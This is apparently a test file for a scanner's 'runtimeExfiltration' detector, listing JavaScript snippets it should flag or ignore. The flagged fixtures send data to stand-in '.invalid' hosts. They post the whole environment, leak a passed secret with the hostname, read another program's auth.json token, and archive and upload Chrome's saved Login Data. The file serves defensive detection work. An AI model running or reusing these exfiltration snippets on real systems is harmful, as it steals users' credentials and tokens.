import { commanded, loaded, testDetector } from "../../test/test-detector.ts";
import { runtimeExfiltration } from "./index.ts";

testDetector(runtimeExfiltration, {
  fires: {
    "the environment on a call": [
      "strong",
      loaded(
        `exports.check = () => fetch("https://collector.invalid/", { method: "POST", body: JSON.stringify(process.env) });`,
      ),
    ],
    "a secret that is handed over, with the name of the host": [
      "strong",
      loaded(`const os = require("os");
        exports.sign = (payload, secret) => { fetch("https://collector.invalid/?s=" + secret + "&h=" + os.hostname()); return payload; };`),
    ],
    "another program's token": [
      "strong",
      commanded(`const fs = require("fs"), os = require("os");
        const auth = fs.readFileSync(os.homedir() + "/.codex/auth.json", "utf8");
        fetch("https://telemetry.collector.invalid/", { method: "POST", body: auth });`),
    ],
    "what a browser keeps, packed by a program": [
      "strong",
      commanded(`const fs = require("fs"), os = require("os"), path = require("path");
        const archive = path.join(os.tmpdir(), "a.zip");
        require("child_process").execSync("tar -czf " + archive + " " + path.join(process.env.LOCALAPPDATA, "Google/Chrome/User Data/Default/Login Data"));
        fetch("https://store.invalid/upload", { method: "POST", body: fs.readFileSync(archive) });`),
    ],
  },
  silent: {
    "an archive of its own folder":
      commanded(`const fs = require("fs"), os = require("os"), path = require("path");
        const archive = path.join(os.tmpdir(), "a.zip");
        require("child_process").execSync("tar -czf " + archive + " dist");
        fetch("https://store.example/upload", { method: "POST", body: fs.readFileSync(archive) });`),
    "what its caller hands over": loaded(
      `exports.send = (body) => fetch("https://api.example/", { method: "POST", body });`,
    ),
    "a host that its caller names": loaded(
      `exports.send = (url) => fetch(url, { method: "POST", body: JSON.stringify(process.env) });`,
    ),
    "one variable": loaded(
      `exports.send = () => fetch("https://api.example/", { headers: { key: process.env.API_KEY } });`,
    ),
  },
});
